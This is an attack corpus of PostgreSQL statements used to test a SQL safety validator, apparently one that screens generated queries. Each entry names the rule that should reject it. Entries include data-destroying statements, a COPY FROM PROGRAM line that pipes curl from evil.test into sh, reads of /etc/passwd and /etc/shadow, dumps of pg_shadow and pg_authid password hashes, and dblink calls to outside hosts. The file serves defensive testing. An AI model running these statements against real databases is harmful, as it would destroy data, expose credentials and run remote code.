-- Attack corpus for PostgreSQL. Format: see `querygpt_sqlsafe::corpus` (blank-line-separated entries,
-- `-- expect: <rule>` names the rule the validator must report; other comments are part of the attack).
-- Tables referenced: customers, orders, order_items, products, employees, payments, events.

-- expect: not_a_query
DROP TABLE customers

-- expect: not_a_query
DELETE FROM orders

-- expect: not_a_query
UPDATE products SET price = 0

-- expect: not_a_query
INSERT INTO customers (name, email) VALUES ('mallory', 'm@evil.test')

-- expect: not_a_query
TRUNCATE orders

-- expect: not_a_query
ALTER TABLE customers ADD COLUMN pwned boolean

-- expect: not_a_query
CREATE TABLE loot AS SELECT * FROM customers

-- expect: multiple_statements
SELECT 1; DROP TABLE customers

-- expect: multiple_statements
COMMIT; DROP TABLE customers

-- expect: multiple_statements
COMMIT; BEGIN; DELETE FROM orders; COMMIT

-- expect: multiple_statements
SET TRANSACTION READ WRITE; UPDATE products SET price = 0

-- expect: multiple_statements
ROLLBACK; DELETE FROM orders

-- expect: multiple_statements
SELECT * FROM orders LIMIT 10; COMMIT

-- expect: multiple_statements
SET statement_timeout = 0; SELECT count(*) FROM orders a, orders b, orders c

-- expect: multiple_statements
SELECT 1; -- the rest is hidden after a comment
DROP TABLE orders

-- expect: multiple_statements
SELECT 1;/**/DELETE FROM orders

-- expect: not_a_query
COMMIT

-- expect: not_a_query
SET TRANSACTION READ WRITE

-- expect: not_a_query
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- expect: not_a_query
BEGIN READ WRITE

-- expect: not_a_query
START TRANSACTION READ WRITE

-- expect: not_a_query
SET default_transaction_read_only = off

-- expect: not_a_query
SET ROLE postgres

-- expect: not_a_query
RESET ALL

-- expect: not_a_query
COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned'

-- expect: not_a_query
COPY customers TO '/tmp/customers.csv'

-- expect: not_a_query
COPY customers FROM PROGRAM 'curl http://evil.test/x | sh'

-- expect: not_a_query
DO $$ BEGIN DELETE FROM orders; END $$

-- expect: not_a_query
CALL refresh_everything()

-- expect: not_a_query
EXPLAIN ANALYZE DELETE FROM orders

-- expect: not_a_query
EXPLAIN ANALYZE SELECT pg_sleep(10)

-- expect: not_a_query
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE

-- expect: not_a_query
VACUUM FULL orders

-- expect: not_a_query
PREPARE p AS DELETE FROM orders

-- expect: not_a_query
EXECUTE p

-- expect: not_a_query
LISTEN secrets

-- expect: not_a_query
NOTIFY secrets, 'x'

-- expect: not_a_query
GRANT ALL ON customers TO PUBLIC

-- expect: not_a_query
ALTER SYSTEM SET log_statement = 'none'

-- expect: not_a_query
CREATE EXTENSION dblink

-- expect: not_a_query
CREATE FUNCTION evil() RETURNS void AS $$ DELETE FROM orders $$ LANGUAGE sql

-- expect: not_a_query
/* harmless looking comment */ DELETE FROM orders

-- expect: not_a_query
-- a leading line comment
DROP TABLE orders

-- expect: not_a_query
dElEtE fRoM orders WHERE 1 = 1

-- expect: data_modifying_cte
WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d

-- expect: data_modifying_cte
WITH u AS (UPDATE products SET price = 0 RETURNING id) SELECT * FROM u

-- expect: data_modifying_cte
WITH i AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT * FROM i

-- expect: data_modifying_cte
WITH a AS (WITH b AS (DELETE FROM orders RETURNING id) SELECT * FROM b) SELECT * FROM a

-- expect: data_modifying_cte
WITH x AS MATERIALIZED (DELETE FROM payments RETURNING *) SELECT 1

-- expect: data_modifying_cte
WITH harmless AS (SELECT 1), d AS (DELETE FROM orders RETURNING 1) SELECT * FROM harmless

-- expect: data_modifying_cte
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) AS s

-- expect: data_modifying_cte
wItH d aS (dElEtE FROM orders rEtUrNiNg *) sElEcT * FROM d

-- expect: select_into
SELECT * INTO backup_orders FROM orders

-- expect: select_into
SELECT * INTO TEMP loot FROM customers

-- expect: select_into
SELECT id, email INTO UNLOGGED TABLE loot FROM customers

-- expect: locking_clause
SELECT * FROM orders FOR UPDATE

-- expect: locking_clause
SELECT * FROM orders FOR SHARE NOWAIT

-- expect: locking_clause
SELECT * FROM orders FOR NO KEY UPDATE

-- expect: locking_clause
SELECT * FROM orders FOR KEY SHARE

-- expect: locking_clause
SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o SKIP LOCKED

-- expect: locking_clause
SELECT * FROM (SELECT * FROM orders FOR UPDATE) AS s

-- expect: denied_function
SELECT pg_read_file('/etc/passwd')

-- expect: denied_function
SELECT pg_catalog.pg_read_file('/etc/passwd')

-- expect: denied_function
SELECT "pg_read_file"('/etc/passwd')

-- expect: denied_function
SELECT PG_READ_FILE('/etc/passwd')

-- expect: denied_function
SELECT "pg_catalog"."pg_read_binary_file"('/etc/shadow')

-- expect: denied_function
SELECT pg_ls_dir('.')

-- expect: denied_function
SELECT * FROM pg_ls_dir('/var/lib/postgresql') AS f

-- expect: denied_function
SELECT pg_stat_file('postgresql.conf')

-- expect: denied_function
SELECT lo_import('/etc/passwd')

-- expect: denied_function
SELECT lo_export(16401, '/tmp/dump')

-- expect: denied_function
SELECT lo_get(16401)

-- expect: denied_function
SELECT * FROM dblink('host=evil.test', 'SELECT 1') AS t(a int)

-- expect: denied_function
SELECT dblink_exec('dbname=test', 'DELETE FROM orders')

-- expect: denied_function
SELECT dblink_connect('c', 'host=10.0.0.1')

-- expect: denied_function
SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')

-- expect: denied_function
SELECT table_to_xml('customers', true, false, '')

-- expect: denied_function
SELECT pg_sleep(60)

-- expect: denied_function
SELECT pg_sleep_for('1 hour')

-- expect: denied_function
SELECT id FROM customers UNION SELECT pg_sleep(10)::int

-- expect: denied_function
SELECT id FROM customers UNION ALL SELECT length(pg_read_file('/etc/passwd'))

-- expect: denied_function
SELECT CASE WHEN true THEN pg_sleep(10) END

-- expect: denied_function
SELECT (SELECT pg_ls_dir('/') LIMIT 1)

-- expect: denied_function
SELECT * FROM orders WHERE id IN (SELECT lo_unlink(16401))

-- expect: denied_function
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders

-- expect: denied_function
SELECT lower(pg_read_file('/etc/passwd'))

-- expect: denied_function
SELECT * FROM generate_series(1, 10) AS g, LATERAL pg_sleep(1)

-- expect: denied_function
SELECT set_config('default_transaction_read_only', 'off', false)

-- expect: denied_function
SELECT current_setting('data_directory')

-- expect: denied_function
SELECT nextval('orders_id_seq')

-- expect: denied_function
SELECT setval('orders_id_seq', 1)

-- expect: denied_function
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

-- expect: denied_function
SELECT pg_cancel_backend(42)

-- expect: denied_function
SELECT pg_reload_conf()

-- expect: denied_function
SELECT pg_advisory_lock(1)

-- expect: denied_function
SELECT pg_try_advisory_xact_lock(1)

-- expect: denied_function
SELECT pg_notify('channel', 'payload')

-- expect: denied_function
SELECT txid_current()

-- expect: denied_function
WITH x AS (SELECT pg_sleep(5)) SELECT * FROM x

-- expect: denied_function
SELECT string_agg(pg_read_file(name), ',') FROM (VALUES ('/etc/passwd')) AS f(name)

-- expect: function_not_allowed
SELECT public.evil_function(1)

-- expect: function_not_allowed
SELECT * FROM public.set_returning_evil()

-- expect: function_not_allowed
SELECT my_udf(id) FROM orders

-- expect: function_not_allowed
SELECT version()

-- expect: system_catalog
SELECT * FROM pg_shadow

-- expect: system_catalog
SELECT rolname, rolpassword FROM pg_authid

-- expect: system_catalog
SELECT * FROM pg_catalog.pg_user_mappings

-- expect: system_catalog
SELECT * FROM "pg_authid"

-- expect: system_catalog
SELECT usename, passwd FROM pg_catalog.pg_shadow WHERE usesuper

-- expect: system_catalog
SELECT query FROM pg_stat_activity

-- expect: system_catalog
SELECT * FROM pg_catalog.pg_hba_file_rules

-- expect: system_catalog
SELECT * FROM pg_largeobject

-- expect: system_catalog
SELECT id FROM customers UNION SELECT usesysid FROM pg_shadow

-- expect: system_catalog
SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM pg_authid WHERE rolsuper)

-- expect: system_catalog
WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid

-- expect: unsupported_syntax
SELECT 1 OPERATOR(pg_catalog.+) 1

-- expect: parse_error
SELECT 'unterminated
